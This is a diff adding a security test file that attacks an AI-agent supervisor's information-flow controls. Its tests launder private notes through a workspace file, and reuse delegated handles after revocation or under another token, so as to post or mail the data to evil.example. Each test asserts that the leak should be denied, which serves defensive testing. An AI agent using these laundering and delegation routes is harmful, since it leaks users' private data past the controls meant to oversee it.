@@ -1,0 +1,135 @@
+"""Attacks on information-flow control, each through the real supervisor path (PolicyHarness: real
+wire format, real token chain, real audit log). Each test asserts what SHOULD hold; a test that
+fails shows a hole that is still open."""
+
+from __future__ import annotations
+
+from typing import Any
+
+import pytest
+
+from runtime import PolicyHarness
+from runtime.errors import ErrorCode
+
+TOOLS = ["flow_tools", "runtime.toolbox"]
+
+
+def policy(agent: str, **extra: Any) -> dict[str, Any]:
+    """The per-agent policy of tests/unit/test_flow.py: every tool, arguments free, labels declared once."""
+    tools = {
+        "mail.read": {"effect": "read"},
+        "mail.send": {"effect": "write", "ifc": {"args": {"to": "trusted"}, "destination": "to"}},
+        "bank.pay": {"effect": "write", "ifc": {"context": "trusted"}},
+        "web.get": {"effect": "read"},
+        "web.post": {"effect": "write", "ifc": {"destination": "url"}},
+        "notes.read": {"effect": "read"},
+        "handle.reveal": {"effect": "read"},
+    }
+    for name, rule in extra.pop("tools", {}).items():
+        tools[name] = {**tools.get(name, {}), **rule} if rule is not None else None
+    return {"agent": agent, "tools": {k: v for k, v in tools.items() if v is not None},
+            "delegation": {"can_delegate_to": ["helper", "lax"], "max_depth": 3}, **extra}
+
+
+def hiding(agent: str, *names: str, **extra: Any) -> dict[str, Any]:
+    tools = {n: {"effect": "read", "output": {"hide": True}} for n in names}
+    return policy(agent, tools={**tools, **extra.pop("tools", {})}, **extra)
+
+
+@pytest.fixture
+def h():
+    with PolicyHarness(tools=TOOLS) as harness:
+        harness.add_agent(policy("assistant"))
+        harness.add_agent(policy("helper"))
+        yield harness
+
+
+# ---------------------------------------------------------------------------- audit: the origin
+
+
+def test_origin_names_the_result_that_lowered_the_integrity_not_the_first_that_narrowed_readers(h):
+    """The run's origin is set once, by the first result that changed the label in any way. A private
+    but trusted read (notes.read: trusted, readers *@corp.example) comes first; an untrusted page
+    then taints the context. The FLOW_DENIED of a `context: trusted` rule must name the page, not
+    the notes (which are trusted): the operator is sent to the wrong call."""
+    assert h.call("assistant", "notes.read").allowed
+    page = h.call("assistant", "web.get", {"url": "https://news.example/"})
+    assert page.outcome["context"]["integrity"] == "untrusted"
+    d = h.call("assistant", "bank.pay", {"iban": "XX99", "amount": 1})
+    assert d.code == "FLOW_DENIED"
+    assert d.audit["flow"]["origin"]["tool"] == "web.get", d.audit["flow"]
+    assert d.audit["flow"]["origin"]["call_id"] == page.outcome["call_id"]
+
+
+def test_origin_of_an_argument_is_the_handle_in_that_argument(h):
+    """Two hidden untrusted pages: one passed as the body (allowed: body is free), the other as the
+    recipient. The denial is about `to`; its origin must be the call whose handle is in `to`, not
+    the one whose handle happens to come first among the arguments."""
+    h.add_agent(hiding("reader", "web.get"))
+    body = h.call("reader", "web.get", {"url": "https://news.example/"})
+    to = h.call("reader", "web.get", {"url": "https://evil.example/"})
+    d = h.call("reader", "mail.send", {"body": body.value, "to": to.value})
+    assert d.code == "FLOW_DENIED" and d.audit["flow"]["arg"] == "to"
+    assert d.audit["flow"]["origin"]["call_id"] == to.outcome["call_id"], (d.audit["flow"], body.outcome["call_id"])
+
+
+# ---------------------------------------------------------------------------- confidentiality
+
+
+def test_private_data_written_to_the_workspace_and_read_back_is_still_private():
+    """Laundering readers through storage with the shipped declarations: ``fs.write`` declares its
+    result a receipt (trusted, carries_inputs false) and ``fs.read`` declares nothing (untrusted,
+    *public*). The agent writes a hidden private result (readers *@corp.example) to a file via its
+    handle, reads the file back, and posts it to an outside host: the `destination: url` rule sees
+    public data and allows it. No approval, no denial. (Tool bodies stubbed with an in-memory
+    workspace so no sandbox is needed; the declarations and contracts are the shipped ones.)"""
+    disk: dict[str, Any] = {}
+
+    def write(path: str, content: Any) -> dict[str, Any]:
+        disk[path] = content
+        return {"written": len(str(content))}
+
+    with PolicyHarness(tools=TOOLS, stubs={"fs.write": write, "fs.read": lambda path: disk[path]}) as h:
+        h.add_agent(hiding("assistant", "notes.read", tools={"fs.write": {"effect": "write"},
+                                                              "fs.read": {"effect": "read"}}))
+        notes = h.call("assistant", "notes.read")
+        assert notes.value["label"]["readers"] == [["*@corp.example"]]
+        direct = h.call("assistant", "web.post", {"url": "https://evil.example/drop", "body": notes.value})
+        assert direct.code == "FLOW_DENIED"  # the handle itself is stopped at the sink
+        assert h.call("assistant", "fs.write", {"path": "/workspace/n.txt", "content": notes.value}).allowed
+        back = h.call("assistant", "fs.read", {"path": "/workspace/n.txt"})
+        assert back.value == "launch date: 12 May"
+        d = h.call("assistant", "web.post", {"url": "https://evil.example/drop", "body": back.value})
+        assert back.outcome["label"]["readers"] != "public", back.outcome["label"]
+        assert d.code in ("FLOW_DENIED", "APPROVAL_DENIED"), (d, d.audit)
+
+
+def test_a_handle_passed_to_a_delegated_run_is_not_usable_under_the_delegates_other_tokens(h):
+    """Handles are bound to agent *names*, not to runs. ``boss`` passes a private handle to ``lax``
+    through a delegation whose token carries boss's sink rules (web.post: destination url). Under
+    that token lax is stopped; under its own root token (its own policy has no sink rule) the same
+    handle goes to an outside host. The delegator's rules are shed for the delegator's data."""
+    h.add_agent({"agent": "lax", "tools": {"web.post": {"effect": "write"}, "handle.reveal": {"effect": "read"}}})
+    h.add_agent(hiding("boss", "notes.read", delegation={"can_delegate_to": ["lax"], "max_depth": 2}))
+    notes = h.call("boss", "notes.read").value
+    given = h.delegate("boss", "lax", handles=[notes])
+    assert given.allowed
+    stopped = h.call("lax", "web.post", {"url": "https://evil.example/", "body": notes}, token=given.token)
+    assert stopped.code == "FLOW_DENIED"
+    d = h.call("lax", "web.post", {"url": "https://evil.example/", "body": notes})  # lax's root token
+    assert not d.allowed, (d.value, d.audit)
+    assert d.code in ("HANDLE_DENIED", "FLOW_DENIED")
+
+
+def test_revoking_the_delegation_a_handle_was_passed_through_ends_the_delegates_use_of_it(h):
+    """The delegation is revoked: the handle it carried stays usable by the delegate by name."""
+    h.add_agent({"agent": "lax", "tools": {"web.post": {"effect": "write"}, "mail.send": {"effect": "write"}}})
+    h.add_agent(hiding("boss", "notes.read", delegation={"can_delegate_to": ["lax"], "max_depth": 2}))
+    notes = h.call("boss", "notes.read").value
+    given = h.delegate("boss", "lax", handles=[notes])
+    from runtime.trusted.capability import Token
+    h.supervisor.revoke_token(Token.decode(given.token).token_id)
+    assert h.call("lax", "mail.send", {"to": "x@corp.example", "body": notes}, token=given.token).code \
+        == "TOKEN_REVOKED"
+    d = h.call("lax", "mail.send", {"to": "eve@evil.example", "body": notes})
+    assert d.code == "HANDLE_DENIED", (d.value, d.audit)
